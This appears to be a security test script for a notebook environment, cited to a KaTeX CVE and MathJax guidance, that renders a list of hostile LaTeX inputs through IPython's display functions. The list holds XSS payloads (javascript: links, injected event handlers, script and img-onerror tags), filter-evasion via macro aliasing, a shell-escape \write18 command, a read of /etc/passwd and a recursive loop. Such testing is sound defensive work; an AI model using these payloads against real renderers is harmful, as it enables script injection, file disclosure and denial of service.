"""Shows LaTeX whose commands are links, scripts, styles, includes or loops for whoever renders it."""

SOURCE = "CVE-2025-23207 (KaTeX); MathJax's own advice on `href` and its Safe extension"
SUCCESS = "a script in the executed notebook"

# %%
from IPython.display import Latex, Math, display

for text in (
    r"\href{javascript:alert(1)}{x}", r"\href{ java&#115;cript:1}{x}", r"\url{javascript:1}", r"\style{background:url(https://example.invalid)}{x}",
    r"\class{x\" onclick=\"1}{x}", r"\cssId{x}{y}", r"\require{html}\unicode{<script>1</script>}", r"\htmlData{x=\" onmouseover=1}{x}", r"\includegraphics{https://example.invalid/x}",
    r"\htmlStyle{position:fixed;inset:0}{x}", r"\input{/etc/passwd}", r"\write18{id}", r"\def\x{\x\x}\x", r"\newcommand{\h}{\href}\h{javascript:1}{x}", r"\begin{x}</script><script>1</script>",
    r"\catcode`\@=0 @href{javascript:1}{x}", r"\let\h\href \h{javascript:1}{x}", r"\csname href\endcsname{javascript:1}{x}", r"\text{<img src=x onerror=1>}", r"\data{x}{y}", r"\tooltip{<script>}{x}",
):  # fmt: skip
    display(Latex(f"${text}$"))
    display(Math(text))
    display({"text/latex": [text]}, raw=True)
print("attempted")
